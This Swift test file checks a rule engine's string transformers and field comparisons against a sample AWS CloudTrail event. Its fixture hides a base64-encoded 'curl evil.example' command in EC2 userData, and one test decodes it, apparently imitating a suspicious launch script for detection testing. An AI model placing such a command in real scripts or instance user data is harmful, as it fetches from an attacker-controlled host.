// TransformerTests.swift - field transformers and field-against-field comparisons (spec §3.4).
import Runtime
import Testing

@Suite struct TransformerTests {
    static let record = #"""
        {"eventTime":"2024-01-02T03:04:05Z","eventType":"AwsApiCall","userIdentity":{"type":"IAMUser","userName":"Alice"},
         "awsRegion":"us-east-1","requestParameters":{"key":"a/b/secrets.txt","userName":"Alice","userData":"Y3VybCBldmlsLmV4YW1wbGU=","bad":"%%%"},
         "responseElements":{"instancesSet":{"items":[{"imageId":"ami-1"},{"imageId":"ami-2"}]}}}
        """#

    /// Slots: 0 ct.user, 1 ct.region, 2 s3.key, 3 ec2.imageids, 4 userData, 5 request.username, 6 bad, 7 ct.error (absent), then transforms.
    static let base: [FieldRequest] = [
        FieldRequest(.ctUser), FieldRequest(.ctRegion), FieldRequest(.s3Key), FieldRequest(.ec2Imageids),
        FieldRequest(.jsonValue, argument: "/requestParameters/userData"), FieldRequest(.ctRequestUsername),
        FieldRequest(.jsonValue, argument: "/requestParameters/bad"), FieldRequest(.ctError),
    ]

    func value(_ t: FieldTransform) throws -> FieldValue {
        let e = try loadEvent(Self.record, Self.base + [FieldRequest(.ctUser, transform: t)])
        return e.value(Self.base.count)
    }

    @Test func stringTransformers() throws {
        #expect(try value(FieldTransform(.tolower, [.slot(0)])) == .str("alice"))
        #expect(try value(FieldTransform(.toupper, [.slot(1)])) == .str("US-EAST-1"))
        #expect(try value(FieldTransform(.basename, [.slot(2)])) == .str("secrets.txt"))
        #expect(try value(FieldTransform(.b64, [.slot(4)])) == .str("curl evil.example"))
        #expect(try value(FieldTransform(.b64, [.slot(6)])) == .absent, "invalid base64 is absent")
        for (text, decoded) in [("YQ", "a"), ("YQ=", "a"), ("YQ==", "a"), ("YmluAGJpbg==", "bin")] {
            #expect(Base64Probe.decode(text) == decoded, "\(text)")
        }
        #expect(Base64Probe.decode("YR==") == nil, "non-zero trailing bits")
        #expect(Base64Probe.decode("Y") == nil, "one character cannot hold a byte")
        #expect(try value(FieldTransform(.concat, [.slot(0), .literal("@"), .slot(1)])) == .str("Alice@us-east-1"))
        #expect(try value(FieldTransform(.join, [.literal(","), .slot(3)])) == .str("ami-1,ami-2"))
        #expect(try value(FieldTransform(.tolower, [.slot(3)])) == .strings(["ami-1", "ami-2"]), "element-wise on lists")
    }

    @Test func lenCountsBytesOrElementsAndAbsentStaysAbsent() throws {
        #expect(try value(FieldTransform(.len, [.slot(0)])) == .number(5))
        #expect(try value(FieldTransform(.len, [.slot(3)])) == .number(2))
        #expect(try value(FieldTransform(.len, [.slot(7)])) == .absent)
        #expect(try value(FieldTransform(.tolower, [.slot(7)])) == .absent)
        #expect(try value(FieldTransform(.concat, [.slot(0), .slot(7)])) == .absent)
    }

    @Test func fieldAgainstField() throws {
        let e = try loadEvent(Self.record, Self.base)
        #expect(e.compare(.equal, 0, 5))
        #expect(!e.compare(.notEqual, 0, 5))
        #expect(e.compare(.notEqual, 0, 1))
        #expect(e.compare(.less, 0, 1), "'Alice' < 'us-east-1' bytewise")
        #expect(!e.compare(.equal, 0, 7), "absent fails every comparison")
        #expect(!e.compare(.notEqual, 0, 7), "absent fails != too")
        #expect(e.compare(.startsWith, 2, 2))
    }
}

/// b64() through a real Event, for single strings.
enum Base64Probe {
    static func decode(_ text: String) -> String? {
        let record = #"{"eventTime":"2024-01-02T03:04:05Z","eventType":"AwsApiCall","requestParameters":{"userData":""# + text + #""}}"#
        let fields = [FieldRequest(.jsonValue, argument: "/requestParameters/userData"),
                      FieldRequest(.jsonValue, transform: FieldTransform(.b64, [.slot(0)]))]
        guard let e = try? loadEvent(record, fields), case .string(let s) = e.value(1) else { return nil }
        return String(decoding: s, as: UTF8.self)
    }
}
